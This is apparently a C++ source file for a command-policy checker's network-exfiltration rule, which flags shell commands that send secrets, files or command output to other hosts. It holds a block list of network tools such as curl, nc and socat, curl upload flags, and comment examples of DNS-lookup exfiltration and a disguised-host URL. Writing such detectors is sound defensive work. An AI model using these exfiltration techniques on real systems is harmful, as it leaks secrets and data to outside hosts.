#include "policy/check.h"
#include "policy/internal/command_words.h"
#include "policy/internal/effect_policy.h"

namespace callgate {
namespace {

bool connects(const EvaluatedCommand& command) {
  return command.effects.has(EffectKind::connect) || command.effects.has(EffectKind::remote) ||
         is_one_of(command.name(),
                   {"curl", "wget",  "nc",  "ncat",     "netcat", "socat", "telnet", "ftp",  "tftp",  "scp",
                    "sftp", "rsync", "ssh", "nslookup", "dig",    "host",  "ping",   "http", "https", "xh"});
}

bool holds_secret(const EvaluatedCommand& command, const PathContext& paths) {
  if (command.effects.has(EffectKind::environment)) return true;
  for (const std::string& path : command.effects.targets(EffectKind::read))
    if (reads_secret(path, paths) && !uses_own_credentials(command, path)) return true;
  return secret_operand(command, paths).has_value();
}

// What flows into the command: its own reading, the pipeline before it, substitutions in its words.
bool receives_secret(const EvaluatedCommand& command, const CheckInput& input) {
  if (holds_secret(command, input.paths)) return true;
  const Prediction& prediction = input.prediction;
  for (const EvaluatedCommand* at = producer_of(command, prediction); at != nullptr; at = producer_of(*at, prediction))
    if (holds_secret(*at, input.paths)) return true;
  for (const EvaluatedCommand& inner : prediction.commands)
    if (inner.in_substitution && &inner != &command && lies_in(inner.where, command.where) &&
        holds_secret(inner, input.paths))
      return true;
  return false;
}

// `dig $(whoami).example.org`: the answer of a command leaves as a name.
bool sends_output_of_command(const EvaluatedCommand& command, const CheckInput& input) {
  if (!is_one_of(command.name(), {"dig", "nslookup", "host", "ping"})) return false;
  for (const EvaluatedCommand& inner : input.prediction.commands)
    if (inner.in_substitution && inner.where != command.where && lies_in(inner.where, command.where)) return true;
  return false;
}

bool is_disguised_host(std::string_view url) {
  size_t scheme = url.find("://");
  if (scheme == std::string_view::npos) return false;
  std::string_view authority = url.substr(scheme + 3, url.find_first_of("/?#", scheme + 3) - (scheme + 3));
  size_t at = authority.rfind('@');
  // user@host that looks like a host before the @: http://github.com@127.1/
  if (at != std::string_view::npos && authority.substr(0, at).find('.') != std::string_view::npos) return true;
  std::string_view host = at == std::string_view::npos ? authority : authority.substr(at + 1);
  host = host.substr(0, host.find(':'));
  bool number = !host.empty() && host.find_first_not_of("0123456789") == std::string_view::npos;
  return number || host.starts_with("0x") || host.starts_with("0X");
}

bool uploads(const EvaluatedCommand& command) {
  if (command.name() == "wget") return has_long(command, "post-file", 6) || has_long(command, "body-file", 6);
  if (command.name() != "curl") return false;
  if (has_letter(command, 'T') || has_long(command, "upload-file", 6)) return true;
  for (size_t i = 1; i < command.argv.size(); ++i) {
    std::string_view word = argument(command, i), before = argument(command, i - 1);
    bool is_data = is_one_of(
        before, {"-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "-F", "--form", "--json"});
    bool attached = word.starts_with("-d@") || word.starts_with("--data=@") || word.starts_with("--data-binary=@");
    if (attached || (is_data && before != "--data-raw" && (word.starts_with('@') || word.find("=@") != word.npos)))
      return true;
  }
  return false;
}

void run(const CheckInput& input, const Check& self, Reporter& to) {
  for (const EvaluatedCommand& command : input.prediction.commands) {
    if (command.argv.empty() || !connects(command)) continue;
    if (receives_secret(command, input)) to.report(self, command.where, "sends a secret to another host");
    if (sends_output_of_command(command, input))
      to.report(self, Verdict::ask, command.where, "what a command answers leaves in a name lookup");
    if (uploads(command)) to.report(self, Verdict::ask, command.where, "sends a file to another host");
    for (size_t i = 1; i < command.argv.size(); ++i)
      if (is_disguised_host(argument(command, i)))
        to.report(self, Verdict::ask, command.where, "the address hides the host that it really means");
  }
}

}  // namespace

extern const Check cg070_network_exfil{70, Verdict::deny, Maturity::stable, "Something is sent away", run};

}  // namespace callgate
